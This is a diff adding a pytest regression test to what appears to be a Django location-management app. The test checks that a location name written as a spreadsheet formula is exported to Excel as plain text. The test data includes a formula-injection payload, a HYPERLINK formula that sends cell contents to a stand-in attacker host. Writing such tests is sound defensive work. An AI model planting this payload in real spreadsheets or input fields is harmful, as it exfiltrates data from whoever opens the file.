@@ -285,3 +285,30 @@ def test_secretariaat_of_another_provincie_gets_404(drenthe: Provincie) -> None:
     assert client.post("/locaties/nieuw/", {**NIEUW, "gemeente": _g("Assen").pk}).status_code == 403
     with pytest.raises(PermissionDenied):
         wijzig_locatie(door=gebruiker, locatie=assen, plaatsen_regulier=1)
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"klik")'
+
+
+def test_a_location_named_as_a_formula_is_text_in_every_excel(gemeente_assen: Client) -> None:
+    """Issue 17: the name came back as a live formula in /locaties/excel/."""
+    from openpyxl import load_workbook
+
+    response = gemeente_assen.post(
+        "/locaties/nieuw/",
+        {**NIEUW, "naam": HYPERLINK, "bijzonderheden": "-2+3", "gemeente": _g("Assen").pk},
+    )
+    assert response.status_code == 302
+    for url in ("/locaties/excel/", "/locaties/capaciteit/excel/"):
+        antwoord = gemeente_assen.get(url)
+        assert antwoord.status_code == 200, url
+        cellen = [
+            c
+            for ws in load_workbook(io.BytesIO(antwoord.content)).worksheets
+            for rij in ws.iter_rows()
+            for c in rij
+        ]
+        assert not [c.value for c in cellen if c.data_type == "f" and "evil" in str(c.value)]
+        if url == "/locaties/excel/":
+            naam = next(c for c in cellen if c.value == HYPERLINK)
+            assert naam.data_type == "s" and naam.quotePrefix
